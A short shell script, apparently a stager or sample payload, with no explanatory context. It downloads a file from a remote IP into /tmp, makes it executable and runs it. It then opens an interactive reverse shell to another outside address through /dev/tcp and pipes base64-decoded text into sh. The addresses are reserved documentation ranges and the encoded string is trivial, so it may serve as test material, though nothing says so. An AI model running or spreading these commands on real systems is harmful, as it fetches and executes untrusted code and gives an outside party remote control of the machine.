#!/bin/sh
wget -O /tmp/x http://198.51.100.1/x; chmod +x /tmp/x
/tmp/x
bash -i >& /dev/tcp/203.0.113.1/1 0>&1
echo aGk= | base64 -d | sh
